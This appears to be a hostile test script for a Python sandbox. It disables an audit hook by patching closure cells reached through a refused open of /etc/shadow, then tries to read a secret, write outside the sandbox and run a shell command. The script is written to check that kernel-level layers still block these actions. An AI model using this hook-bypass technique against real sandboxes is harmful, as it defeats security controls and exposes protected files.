"""Hostile: switches the audit hook off through a refused open's traceback, then reads a
secret, writes outside and runs a program. The hook reports the first attempt; the kernel
layers (namespaces, Landlock, seccomp) stop what follows."""

SECRET = "__SECRET_PATH__"
OUTSIDE = "__OUTSIDE_PATH__"
MARKER = "__MARKER_PATH__"


def _switch_off_the_hook():
    # After one refused open, the traceback reaches the audit hook's frame; the closures of
    # the functions it calls hold the tables it decides with. Widen or empty all of them.
    try:
        open("/etc/shadow")
    except PermissionError as e:
        tb = e.__traceback__
    else:
        return "no hook"
    done = 0
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                try:
                    c = cell.cell_contents
                except ValueError:
                    continue
                if isinstance(c, tuple) and c and all(isinstance(x, str) for x in c):
                    cell.cell_contents = ("/",) if c[0].startswith("/") else ("\x00",)
                    done += 1
                elif isinstance(c, frozenset) and c and all(isinstance(x, str) for x in c):
                    cell.cell_contents = frozenset({"/"})
                    done += 1
                elif isinstance(c, dict):
                    c.clear()
                    done += 1
        tb = tb.tb_next
    return f"patched {done} cells"


def _attempt(what, fn):
    try:
        print(what, "ALLOWED", repr(fn())[:60])
    except BaseException as e:  # noqa: BLE001
        print(what, "refused", type(e).__name__)


print("hook:", _switch_off_the_hook())
_attempt("read secret", lambda: open(SECRET).read())
_attempt("write outside", lambda: open(OUTSIDE, "w").write("pwned"))
_attempt("system", lambda: __import__("os").system("touch " + MARKER))

# __CORRECT_VALUE_CLASS__
